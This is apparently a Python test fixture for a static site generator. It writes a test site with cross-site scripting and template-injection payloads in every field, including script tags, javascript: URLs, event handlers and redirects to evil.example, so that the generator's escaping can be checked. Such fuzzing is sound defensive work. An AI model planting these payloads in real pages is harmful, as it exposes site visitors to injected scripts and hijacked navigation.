"""A site with the same hostile words in every field that an author can write them in."""

from __future__ import annotations

import re
from urllib.parse import quote

from hostile_pages import quoted
from site_tester import SiteTest

PAYLOADS = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=`alert(1)",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>",
    '<a href="javascript:alert(1)">words</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<math><mtext></mtext><mglyph><style></math><img src onerror="alert(1)">',
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "<form action=//evil.example><button formaction=javascript:alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<plaintext>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onmouseover=&quot;alert(1)",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u2028<script>alert(1)</script>\u2029",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "{{ cycler.__init__.__globals__ }}{% raw %}",
    "${alert(1)}<%= 7 %>",
    "*<img/src=x onerror=alert(1)>* `<script>` [x](<javascript:alert(1)>)",
    "~~<script>~~ **</p><script>alert(1)</script>**",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript\u200b:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://e.org/"onmouseover="alert(1)',
    "https://e.org/'><script>alert(1)</script>",
    "https://javascript:alert(1)@e.org/",
    'mailto:a@e.org?subject="><script>alert(1)</script>',
    '//e.org/"><script>alert(1)</script>',
    "http://[::1",
    "https://e.org/<b>\\<i>`",
)

CONFIGURATION = """\
title: {words}
description: {words}
url: https://example.org/desk/
feeds: [site, topics, entities, treaties]
linking: {{mentions: all, headings: true, quotations: true}}
authors:
{authors}
nav: [briefings, {{{key}: {address}}}, p0]
extra: {{{key}: {words}}}
"""

BRIEFING = """\
---
title: {words}
date: 2021-01-26
summary: {words}
key_points: [{words}]
topics: [t{n}]
authors: [a{n}]
article: ../../seeds/s{n}.txt
origin: {{publisher: {words}, title: {words}, author: {words}, url: {address}, rights: {words},
  archive_url: {address}, archive_date: 2021-01-27}}
structure: {{headings: ["4"]}}
treaties: [r{n}]
entities: {{{words}: e{n}}}
sources:
  own{n}: {{type: {words}, title: {words}, publisher: {words}, author: [{words}], url: {address},
    archive_url: {address}, archive_date: 2021-01-27, descriptor: {words}, extra: {{x: {words}}}}}
annotations:
- {{quote: The anchor, note: {words}, sources: [own{n}, s{n}], author: a{n}, date: 2021-02-02}}
- {{quote: {words}, occurrence: 1, note: {words}, kind: dispute, sources: [s{n}]}}
- {{quote: {words}, occurrence: 1, kind: source, sources: [own{n}]}}
corrections: [{{date: 2021-02-02, text: {words}}}]
moved_from: [{old}]
extra: {{{words}: [{words}]}}
---
## {raw}

{raw} [words](<{address_raw}>) [words](</> {words}) <{address_raw}> [words][r] [[e{n}|{raw}]]

[r]: <{address_raw}> {words}

![{raw}]({picture} {words}) ![{raw}](<{address_raw}>) [@own{n}, {raw}] [^s{n}] [^n]

[^n]: {raw}

> {raw}

| {raw} | b |
|:-----:|---|
| {raw} | `{raw}` |

{raw}
: {raw}

```{raw}
{raw}
```

    {raw}
"""

ARTICLE = "The anchor stands here.\n\n{raw}\n{raw}\n"

ENTITY = """\
---
id: e{n}
kind: person
name: {words}
names: {{ru: {words}}}
aliases: [{words}, {{text: {words}, case: any}}]
description: {words}
roles: [{{title: {words}, from: 2020, sources: [s{n}]}}, {{title: {words}}}]
wikidata: Q1{n}
links: [{{title: {words}, url: {address}}}, {{url: {address}}}]
extra: {{{words}: {words}}}
---
{raw} The anchor. [[b{n}|{raw}]] [words](<{address_raw}>)
"""

TREATY = """\
---
id: r{n}
name: {words}
formal_name: {words}
aliases: [{words}]
description: {words}
parties: [{{entity: e{n}}}, {{name: {words}}}]
events:
- {{date: 2001-01-01, type: signed, place: {words}, note: {words}, signatories: [e{n}], sources: [s{n}]}}
- {{date: 2002-01-01, type: suspended, party: {words}, contested_by: [e{n}], note: {words}}}
provisions: [{{name: {words}, limit: {words}, unit: {words}, note: {words}, sources: [s{n}]}}]
verification: {words}
depositary: {words}
sources: [s{n}]
---
{raw}
"""

SOURCE = """\
s{n}: {{type: {words}, title: {words}, publisher: {words}, author: {words}, url: {address},
  archive_url: {address}, archive_date: 2021-01-27, url_status: {status}, descriptor: {words}}}
"""

PAGE = "---\ntitle: {words}\nsummary: {words}\n---\n{raw}\n\n## {raw}\n"
TOPIC = "---\nid: t{n}\nname: {words}\ndescription: {words}\n---\n{raw}\n"

FILES = {
    "content/briefings/b{n}.md": BRIEFING,
    "content/entities/e{n}.md": ENTITY,
    "content/treaties/r{n}.md": TREATY,
    "content/sources/s{n}.yml": SOURCE,
    "content/topics/t{n}.md": TOPIC,
    "content/pages/p{n}.md": PAGE,
    "seeds/s{n}.txt": ARTICLE,
}

_NO_FILE_NAME = re.compile(r"[\s/\\?#%:\u200b]")


def write_site(site: SiteTest) -> SiteTest:
    """Write a site that has every payload in every field, and every address."""
    authors = ""
    for number, raw in enumerate(PAYLOADS):
        address = ADDRESSES[number % len(ADDRESSES)]
        is_plain = address.isprintable()  # Markdown takes others for paths
        name = _NO_FILE_NAME.sub("", raw)
        picture = f"p{number}{name}.png"
        values = {
            "n": number,
            "raw": raw,
            "words": quoted(raw),
            "address": quoted(address),
            "address_raw": re.sub(r"[<>]", r"\\\g<0>", address if is_plain else ADDRESSES[7]),
            "old": quoted(f"old{number}/{name}/"),
            "picture": quote(picture),
            "status": "dead" if number % 2 else "live",
        }
        for path, text in FILES.items():
            site.file(path.format(n=number), text.format(**values))
        site.file(f"content/briefings/{picture}", "a picture")
        authors += "  a{n}: {{name: {words}, url: {address}}}\n".format(**values)
    words, address = quoted(" ".join(PAYLOADS)), quoted(ADDRESSES[8])
    key = quoted(" ".join(PAYLOADS[:8]))  # YAML takes some 1,000 characters for a key
    values = {"words": words, "key": key, "address": address, "authors": authors}
    return site.file("briefgen.yml", CONFIGURATION.format(**values))
